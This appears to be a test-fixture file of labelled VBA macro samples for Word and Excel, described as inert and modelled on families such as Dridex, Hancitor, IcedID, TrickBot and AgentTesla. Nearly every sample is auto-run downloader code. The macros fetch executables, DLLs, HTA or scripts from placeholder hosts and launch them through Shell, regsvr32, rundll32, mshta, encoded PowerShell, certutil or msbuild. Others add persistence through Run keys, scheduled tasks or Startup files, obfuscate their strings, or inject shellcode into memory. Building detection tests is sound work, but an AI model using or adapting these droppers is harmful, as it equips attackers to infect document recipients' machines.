' Inert macro texts, written for the tests: '#### application: what it is
'#### word: plain downloader URLDownloadToFile exe
Private Declare Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long
Sub AutoOpen()
URLDownloadToFile 0, "http://192.0.2.3/update.exe", Environ("TEMP") & "\update.exe", 0, 0
Shell Environ("TEMP") & "\update.exe"
End Sub
'#### word: plain downloader xmlhttp exe wscript.shell
Sub Document_Open()
Dim x, s, p
p = Environ("TEMP") & "\invoice.exe"
Set x = CreateObject("MSXML2.XMLHTTP"): x.Open "GET", "http://bad.example.com/a.exe", False: x.Send
Set s = CreateObject("ADODB.Stream"): s.Type = 1: s.Open: s.Write x.responseBody: s.SaveToFile p, 2
CreateObject("WScript.Shell").Run p
End Sub
'#### word: dll regsvr32
Sub Document_Open()
URLDownloadToFile 0, "http://bad.example.com/wp-content/a/", "C:\ProgramData\a.ocx", 0, 0
Shell "regsvr32 /s C:\ProgramData\a.ocx"
End Sub
'#### word: regsvr32 own path var
Sub Document_Open()
p = Environ("APPDATA") & "\a.ocx"
URLDownloadToFile 0, "http://bad.example.com/wp-content/a/", p, 0, 0
CreateObject("WScript.Shell").Run "regsvr32 /s " & p
End Sub
'#### word: drops hex blob exe and runs
Sub AutoOpen()
Dim b() As Byte
h = "4D5A90000300000004000000FFFF0000B8"
For i = 1 To Len(h) Step 2
ReDim Preserve b(i \ 2): b(i \ 2) = CByte("&H" & Mid(h, i, 2))
Next
Open Environ("TEMP") & "\a.exe" For Binary As #1
Put #1, , b
Close #1
Shell Environ("TEMP") & "\a.exe", vbHide
End Sub
'#### word: scheduled task via Schedule.Service
Sub AutoOpen()
Set s = CreateObject("Schedule.Service"): s.Connect
Set t = s.NewTask(0)
Set a = t.Actions.Create(0): a.Path = "mshta.exe": a.Arguments = "http://192.0.2.4/a.hta"
s.GetFolder("\").RegisterTaskDefinition "Upd", t, 6, , , 3
End Sub
'#### word: registry run key + copy self
Sub AutoOpen()
CreateObject("WScript.Shell").RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\u", "mshta http://192.0.2.4/a.hta"
End Sub
'#### word: shell mshta plain
Sub AutoOpen()
Shell "mshta http://192.0.2.4/a.hta"
End Sub
'#### word: cmd bitsadmin
Sub AutoOpen()
Shell "cmd /c bitsadmin /transfer x http://192.0.2.4/a.exe %TEMP%\a.exe & %TEMP%\a.exe", 0
End Sub
'#### word: cmd curl exe and start
Sub AutoOpen()
Shell "cmd /c curl http://192.0.2.4/a.exe -o %TEMP%\a.exe && start %TEMP%\a.exe", 0
End Sub
'#### word: msiexec /q /i var
Sub AutoOpen()
u = "http://192.0.2.4/a.msi"
CreateObject("Shell.Application").ShellExecute "msiexec", "/q /i " & u, "", "open", 0
End Sub
'#### word: ShellExecute powershell args separate
Sub AutoOpen()
CreateObject("Shell.Application").ShellExecute "powershell", "-w hidden iex (iwr http://192.0.2.4/a.ps1)", "", "open", 0
End Sub
'#### word: DotNetToJScript
Sub AutoOpen()
Set d = CreateObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter")
Set m = CreateObject("System.IO.MemoryStream")
Set o = d.Deserialize_2(m).DynamicInvoke(x).CreateInstance("T")
End Sub
'#### word: drops lnk/startup: writes vbs to Startup
Sub AutoOpen()
Open Environ("APPDATA") & "\Microsoft\Windows\Start Menu\Programs\Startup\a.vbs" For Output As #1
Print #1, "CreateObject(""WScript.Shell"").Run ""mshta http://192.0.2.4/a.hta"""
Close #1
End Sub
'#### word: dridex autoclose xml
Sub AutoClose()
Dim x, y
Set x = CreateObject("Microsoft.XMLHTTP"): x.Open "GET","http://a.example.com/js/bin.exe",False: x.Send
Set y = CreateObject("Adodb.Stream"): y.Type=1: y.Open: y.Write x.responseBody: y.SaveToFile Environ("TEMP") & "\fghgkj.exe",2
CreateObject("Shell.Application").ShellExecute Environ("TEMP") & "\fghgkj.exe"
End Sub
'#### word: dridex many urls split
Sub Workbook_Open()
u = Split("https://a.foo.com/x1.zip,https://b.bar.com/q2.rar,https://c.baz.org/t7.txt,https://d.k.net/p0.pdf,https://e.z.it/a.gif", ",")
URLDownloadToFile 0, u(Int(Rnd*5)), Environ("TEMP") & "\a.dll", 0, 0
Shell "regsvr32 -s " & Environ("TEMP") & "\a.dll"
End Sub
'#### word: dridex urls without ext, many
Sub Workbook_Open()
u = Split("https://a.foo.com/wp-content/plugins/x/,https://b.bar.com/wp-includes/k/,https://c.baz.org/t7,https://d.k.net/wp-admin/p0,https://e.z.it/a", ",")
URLDownloadToFile 0, u(Int(Rnd*5)), Environ("TEMP") & "\a.dll", 0, 0
Shell "rundll32 " & Environ("TEMP") & "\a.dll,DllRegisterServer"
End Sub
'#### word: hancitor write+rundll
Sub Document_Open()
Options.DefaultFilePath(wdUserTemplatesPath) & "\ier.dll"
Shell "rundll32.exe " & Environ("APPDATA") & "\ier.dll,ADNLOABQGADTMP", 0
End Sub
'#### word: ursnif mshta reg
Sub Document_Close()
Dim o: Set o = CreateObject("wsc" & "ript.sh" & "ell")
o.Run "mshta " & ActiveDocument.Variables("x"), 0
End Sub
'#### word: agent tesla powershell
Sub Workbook_Open()
Shell "powershell -w hidden (New-Object Net.WebClient).DownloadFile('http://192.0.2.3/a.exe','%TEMP%\a.exe');Start-Process '%TEMP%\a.exe'", vbHide
End Sub
'#### word: remcos two mirrors
Sub Workbook_Open()
Shell "powershell -e JAB1AD0AJwBoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwB4AC4AZQB4AGUAJwAsACcAaAB0AHQAcAA6AC8ALwBiAC4AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AeAAuAGUAeABlACcALAAnAGgAdAB0AHAAOgAvAC8AYwAuAGUAeABhAG0AcABsAGUALgBjAG8AbQAvAHgALgBlAHgAZQAnADsAZgBvAHIAZQBhAGMAaAAoACQAaQAgAGkAbgAgACQAdQApAHsAdAByAHkAewAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQARgBpAGwAZQAoACQAaQAsACIAJABlAG4AdgA6AFQARQBNAFAAXAB4AC4AZQB4AGUAIgApADsAUwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgACIAJABlAG4AdgA6AFQARQBNAFAAXAB4AC4AZQB4AGUAIgA7AGIAcgBlAGEAawB9AGMAYQB0AGMAaAB7AH0AfQA=", 0
End Sub
'#### word: trickbot bat certutil
Sub AutoOpen()
Open "C:\ProgramData\a.bat" For Output As #1
Print #1, "certutil -urlcache -f http://192.0.2.3/a.png C:\ProgramData\a.exe & start C:\ProgramData\a.exe"
Close #1
Shell "cmd /c C:\ProgramData\a.bat", 0
End Sub
'#### word: gozi WMI, 4 args wrapper, replaced
Sub Document_Open()
Set a = GetObject(rr("winm@gmts:"))
Set s = a.Get(rr("Win32_Proc@essStartup")).SpawnInstance_
s.ShowWindow = 0
a.Get(rr("Win32_Pro@cess")).Create rr("rege@c"), Null, s, p
End Sub
Function rr(x)
rr = Replace(x, "@", "")
End Function
'#### word: icedid form payload
Sub autoopen()
Set w = CreateObject(fr.t1.Tag)
w.exec fr.t2.Tag & " " & fr.t3.Tag
End Sub
'#### word: GandCrab: command in a form's text, started
Sub AutoOpen()
Dim c As String
c = "cmd /c powershell -nop -w hidden -c IEX((New-Object Net.WebClient).DownloadString('http://s0.example.com/k'))"
Interaction.Shell c, 0
End Sub
'#### word: Hancitor: library out of the document, rundll32 from the user's templates
Sub Document_Open()
p = Environ("APPDATA") & "\Microsoft\Templates"
Call Shell("rundll32.exe " & p & "\W0rd.dll,ONOQWPYIEIR", vbHide)
End Sub
'#### word: IcedID: copy of mshta, page in a public folder
Sub AutoOpen()
FileCopy Environ("windir") & "\System32\mshta.exe", "C:\users\public\in.com"
Open "C:\users\public\in.html" For Output As #1
Print #1, ActiveDocument.CustomDocumentProperties("bod").Value
Close #1
CreateObject("WScript.Shell").Exec "C:\users\public\in.com C:\users\public\in.html"
End Sub
'#### word: IcedID: library named as a picture
Private Sub Document_Open()
Dim p As String
p = "c:\programdata\aKyVx.jpg"
If dl(0, "http://s0.example.com/bolb/kaka.php?l=zoge1.cab", p, 0, 0) = 0 Then
Shell "regsvr32 " & p
End If
End Sub
Private Declare PtrSafe Function dl Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long
'#### excel: Dridex: object name from cells backwards, command from cells
Private Sub Workbook_Open()
Set q = CreateObject(StrReverse("ll" & "ehS.tp" & "ircSW"))
q.Run StrReverse(Sheets(1).Range("FX995").Value), 0
End Sub
'#### excel: AgentTesla: mshta of a short address, put together
Private Sub Workbook_BeforeClose(Cancel As Boolean)
a = "msh"
b = "ta ht"
c = "tp://s0.example.com/dkasodk"
Shell a & b & c
End Sub
'#### excel: AgentTesla: Shell.Application by its number
Sub Workbook_Open()
Set o = GetObject("new:13709620-C279-11CE-A49E-444553540000")
o.ShellExecute "powershell.exe", "-NoP -W 1 (New-Object System.Net.WebClient).DownloadFile('https://s0.example.com/f/x.jpg','C:\Users\Public\x.exe');Start-Process C:\Users\Public\x.exe", "", "open", 0
End Sub
'#### word: TrickBot: base64 in the code, script in the public folder
Sub AutoOpen()
Dim f
f = Environ("PUBLIC") & "\hello.js"
Open f For Output As #1
Print #1, "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET','http://192.0.2.9/a.png',0); x.send(); var s = new ActiveXObject('ADODB.Stream'); s.SaveToFile('%TEMP%\\a.exe')"
Close #1
Shell "wscript " & f, vbHide
End Sub
'#### word: certutil decodes and cmd starts
Sub AutoOpen()
Set w = CreateObject("WScript.Shell")
w.Run "cmd.exe /c certutil -decode %TEMP%\a.txt %TEMP%\a.exe & %TEMP%\a.exe", 0
End Sub
'#### word: rundll32 shell32 ShellExec_RunDLL
Sub AutoOpen()
Dim s
s = "rundll32 shell32.dll,ShellExec_RunDLL "
Shell s & Environ("TEMP") & "\ms.exe"
End Sub
'#### word: WMI starts an encoded command
Sub Document_Open()
Set w = GetObject("winmgmts:\\.\root\cimv2:Win32_Process")
w.Create "powershell.exe -noP -sta -w 1 -enc JABzAD0AJwBoAHQAdABwADoALwAvAHMAMAAuAGUAeABhAG0AcABsAGUALgBjAG8AbQAnAA==", Null, Null, p
End Sub
'#### excel: bytes into memory by an enumeration
Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr
Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal a As LongPtr, b As Any, ByVal c As Long) As LongPtr
Private Declare PtrSafe Function EnumSystemLocalesA Lib "kernel32" (ByVal a As LongPtr, ByVal b As Long) As Long
Sub Auto_Open()
b = Array(252, 72, 131, 228, 240)
p = VirtualAlloc(0, UBound(b), &H1000, &H40)
For i = 0 To UBound(b)
v = b(i): RtlMoveMemory p + i, v, 1
Next
EnumSystemLocalesA p, 0
End Sub
'#### word: xsl by wmic
Sub AutoOpen()
Shell "wmic os get /format:""http://192.0.2.8/a.xsl""", vbHide
End Sub
'#### word: COM scriptlet
Sub Document_Open()
CreateObject("WScript.Shell").Run "regsvr32 /s /n /u /i:http://s0.example.com/a.sct scrobj.dll", 0
End Sub
'#### excel: curl into ProgramData and regsvr32
Sub Workbook_Open()
CreateObject("WScript.Shell").Run "cmd /c curl -s http://s0.example.com/a/ -o C:\ProgramData\a.ocx & regsvr32 /s C:\ProgramData\a.ocx", 0, False
End Sub
'#### word: Ursnif: parts set in other procedures
Dim u As String
Sub AutoOpen()
prepare
fetch
End Sub
Sub prepare()
u = "http://s0.example.com/in/gr.php?l=a1.cab"
End Sub
Sub fetch()
Dim x, s, t
t = Environ("TMP") & "\v1.tmp"
Set x = CreateObject("WinHttp.WinHttpRequest.5.1")
x.Open "GET", u, False
x.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write x.ResponseBody
s.SaveToFile t, 2
Shell "regsvr32 -s " & t
End Sub
'#### word: helper that fetches and starts what it is given
Sub AutoOpen()
Bring "http://s0.example.com/files/putty.exe", Environ("TEMP") & "\svch.exe"
End Sub
Sub Bring(a As String, b As String)
Set x = CreateObject("MSXML2.ServerXMLHTTP")
x.Open "GET", a, False
x.Send
With CreateObject("ADODB.Stream")
.Type = 1
.Open
.Write x.ResponseBody
.SaveToFile b, 2
End With
CreateObject("Shell.Application").Open b
End Sub
'#### word: characters by number, then run
Sub Document_Open()
Dim s
s = Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116) & Chr(46) & Chr(83) & Chr(104) & Chr(101) & Chr(108) & Chr(108)
CreateObject(s).Run Dec("7a0b"), 0
End Sub
Function Dec(h)
For i = 1 To Len(h) Step 2
Dec = Dec & Chr(Val("&H" & Mid(h, i, 2)) Xor 21)
Next
End Function
'#### excel: installer object
Sub Workbook_Open()
Set i = CreateObject("WindowsInstaller.Installer")
i.UILevel = 2
i.InstallProduct "http://192.0.2.7/a.msi"
End Sub
'#### word: shortcut at logon
Sub AutoOpen()
Set w = CreateObject("WScript.Shell")
Set l = w.CreateShortcut(w.SpecialFolders("Startup") & "\Upd.lnk")
l.TargetPath = "mshta.exe"
l.Arguments = "http://s0.example.com/a.hta"
l.Save
End Sub
'#### word: MMC starts it
Sub AutoOpen()
Set m = CreateObject("MMC20.Application")
m.Document.ActiveView.ExecuteShellCommand "powershell", "", "-w hidden iex(irm http://s0.example.com/a)", "7"
End Sub
'#### word: base64 by the XML parser, saved as a program
Sub AutoOpen()
Set d = CreateObject("MSXML2.DOMDocument")
Set e = d.createElement("b")
e.DataType = "bin.base64"
e.Text = Frm.Box.Text
Set s = CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write e.nodeTypedValue
s.SaveToFile Environ("APPDATA") & "\svc.exe", 2
CreateObject("WScript.Shell").Run Environ("APPDATA") & "\svc.exe"
End Sub
'#### word: cmd picks characters out of an alphabet
Sub AutoOpen()
Shell "cmd /V:ON /C ""set z=owrshelpa&&for %i in (7,0,1,6,2,3,4,5,5) do set q=!q!!z:~%i,1!&&if %i equ 5 call !q!""", 0
End Sub
'#### word: a name with single characters taken out
Sub Document_Open()
Set a = GetObject(rr("winm@gmts:"))
Set s = a.Get(rr("Win32_Proc@essStartup")).SpawnInstance_
s.ShowWindow = 0
a.Get(rr("Win32_Pro@cess")).Create rr(ActiveDocument.Variables("k")), Null, s, p
End Sub
Function rr(x)
rr = Replace(x, "@", "")
End Function
'#### word: library declared where it is fetched to
Private Declare PtrSafe Function begin Lib "C:\ProgramData\44.dll" Alias "DllRegisterServer" () As Long
Sub AutoOpen()
URLDownloadToFile 0, "http://s0.example.com/a.php?l=b.cab", "C:\ProgramData\44.dll", 0, 0
begin
End Sub
'#### excel: library declared by its name alone, written from bytes
Private Declare PtrSafe Sub Tick Lib "stat.ocx" ()
Sub Workbook_Open()
ChDir Environ("TEMP")
Open Environ("TEMP") & "\stat.ocx" For Binary As #1
Put #1, , b
Close #1
Tick
End Sub
'#### word: library loaded that was saved
Private Declare PtrSafe Function LoadLibraryA Lib "kernel32" (ByVal s As String) As LongPtr
Sub Document_Open()
q = Environ("APPDATA") & "\wlib.bin"
Set s = CreateObject("ADODB.Stream")
s.Open
s.Write f(ActiveDocument.Variables("k"))
s.SaveToFile q, 2
LoadLibraryA q
End Sub
'#### word: ftp script that gets a program
Sub AutoOpen()
Open Environ("TEMP") & "\f.txt" For Output As #1
Print #1, "open s0.example.com"
Print #1, "get up.exe"
Close #1
Shell "cmd /c ftp -s:%TEMP%\f.txt & up.exe", vbHide
End Sub
'#### excel: ftp script by echo
Sub Auto_Open()
c = "echo open 192.0.2.9>x&echo user a b>>x&echo binary>>x&echo recv run.scr>>x&"
CreateObject("WScript.Shell").Run "cmd /c cd %TEMP%&" & c & "ftp.exe -n -s:x&run.scr", 0
End Sub
'#### word: a program from a share of a bare number
Sub AutoOpen()
Shell "\\192.0.2.5\pub\a.exe", vbHide
End Sub
'#### excel: a library from a share of a bare number
Sub Workbook_Open()
s = "\\192.0.2.77\d\x.dll"
CreateObject("WScript.Shell").Run "rundll32 " & s & ",Start", 0
End Sub
'#### word: a script from a share over the web
Sub AutoOpen()
CreateObject("WScript.Shell").Run "wscript //b \\s0.example.com@8080\dav\a.js"
End Sub
'#### word: explorer opens a page program that was written
Sub AutoOpen()
Open "C:\programdata\sl.hta" For Output As #1
Print #1, Frm.Box.Text
Close #1
Shell "explorer C:\programdata\sl.hta"
End Sub
'#### excel: explorer opens a script that was written
Sub Workbook_Open()
p = Environ("PUBLIC") & "\note.wsf"
Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(p)
f.Write Sheets(2).Range("A9")
f.Close
CreateObject("WScript.Shell").Run "explorer.exe """ & p & """", 0
End Sub
'#### word: ScriptControl runs what was fetched
Sub AutoOpen()
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://s0.example.com/a", False
x.Send
Set s = CreateObject("MSScriptControl.ScriptControl")
s.Language = "VBScript"
s.ExecuteStatement x.responseText
End Sub
'#### excel: ScriptControl is given fetched code by a function
Function Page(u)
With CreateObject("WinHttp.WinHttpRequest.5.1")
.Open "GET", u, False
.Send
Page = .ResponseText
End With
End Function
Sub Workbook_Open()
t = Page("https://paste.example.com/raw/1")
Set s = New ScriptControl
s.Language = "JScript"
s.AddCode t
End Sub
'#### word: msbuild is given a project that was written
Sub AutoOpen()
Open Environ("TEMP") & "\a.csproj" For Output As #1
Print #1, Frm.Box.Text
Close #1
Shell "C:\Windows\Microsoft.NET\Framework\v4.0.30319\msbuild.exe " & Environ("TEMP") & "\a.csproj", 0
End Sub
'#### excel: cmstp is given a profile that was written
Sub Workbook_Open()
p = Environ("APPDATA") & "\vpn.inf"
Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(p)
f.WriteLine Range("B2")
CreateObject("WScript.Shell").Run "cmstp.exe /s /ns " & p, 0
End Sub
'#### word: a remote style sheet transforms itself
Sub AutoOpen()
Set x = CreateObject("MSXML2.DOMDocument")
x.async = False
x.Load "http://s0.example.com/a.xsl"
x.transformNode x
End Sub
'#### excel: a remote style sheet whose result nobody wants
Sub Workbook_Open()
Set a = CreateObject("Microsoft.XMLDOM")
a.LoadXML "<a/>"
Set b = CreateObject("Microsoft.XMLDOM")
u = "https://s0.example.com/style"
b.Load u
Call a.transformNode(b)
End Sub
'#### word: the page's text decoded by a helper and run
Sub Document_Open()
a = ActiveDocument.Paragraphs(3).Range.Text
CreateObject(b("5753637269")).Run b(a), 0
End Sub
Function b(c)
For i = 1 To Len(c) Step 2
b = b & Chr("&H" & Mid(c, i, 2))
Next
End Function
'#### excel: a cell decoded by a helper, then run
Function plainOf(s, k)
Dim i, r
i = 1
Do While i <= Len(s)
r = r & ChrW(AscW(Mid(s, i, 1)) - k)
i = i + 1
Loop
plainOf = r
End Function
Sub Workbook_Open()
c = plainOf(Sheets(1).Range("AA9"), 3)
Shell c, 0
End Sub
'#### word: captions of a form put together and run
Private Sub Document_Open()
Dim w As New WshShell
w.Run Frm.Label1.Caption & Frm.Label2.Caption & Frm.Box.Tag, 0
End Sub
'#### excel: tags of a form gathered and run
Sub Workbook_Open()
c = Frm.A.Tag
c = c & Frm.B.ControlTipText
c = c & Frm.C.Tag
CreateObject("WScript.Shell").Exec c
End Sub
'#### word: a fetched text is run
Sub AutoOpen()
Set x = CreateObject("WinHttp.WinHttpRequest.5.1")
x.Open "GET", "https://paste.example.com/raw/abc", False
x.Send
Shell x.responseText, 0
End Sub
'#### excel: a fetched text behind cmd
Sub Workbook_Open()
Set h = CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", "https://s0.example.com/t", False
h.Send
r = Trim(Split(h.responseText, "|")(1))
CreateObject("WScript.Shell").Run "cmd /c " & r, 0
End Sub
